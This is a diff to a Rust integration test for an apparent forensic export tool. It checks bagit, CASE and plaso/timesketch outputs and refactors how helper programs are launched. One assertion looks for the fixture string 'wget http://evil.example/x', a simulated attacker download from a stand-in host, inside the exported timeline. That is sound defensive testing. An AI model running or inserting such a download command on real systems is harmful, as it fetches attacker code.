@@ -190,7 +190,7 @@ fn tools_of_others_read_an_export() {
     assert!(logins.contains("ann") && logins.contains("pts/7") && logins.contains("evil"), "{logins}");
     dpkg(&out.join("[root]"));
     said(Command::new(&python).args(["-m", "bagit", "--validate"]).arg(out.join("bag")));
-    let verdict = said(Command::new(python.with_file_name("case_validate")).arg(out.join("case.jsonld")));
+    let verdict = said(python::program(&python, "case_validate").arg(out.join("case.jsonld")));
     assert!(verdict.contains("Conforms: True"), "{verdict}");
     let events = fs::read_to_string(out.join("timesketch.jsonl")).unwrap();
     let typed = |line: &str| line.contains("wget http://evil.example/x") && line.contains("2023-11-14T22:13:20.000000+00:00");
@@ -255,7 +255,7 @@ fn plaso(python: &Path, out: &Path, has_journal: bool) {
     let kinds = "bodyfile,text/bash_history,text/syslog_traditional,systemd_journal";
     let parsers = ["--single_process", "--hashers", "none", "--parsers", kinds];
     let run = |program: &str| {
-        let mut command = Command::new(python.with_file_name(program));
+        let mut command = python::program(python, program);
         // Its settings and caches stay in the test's folder.
         command.env("HOME", &source).current_dir(&source).args(quiet);
         command
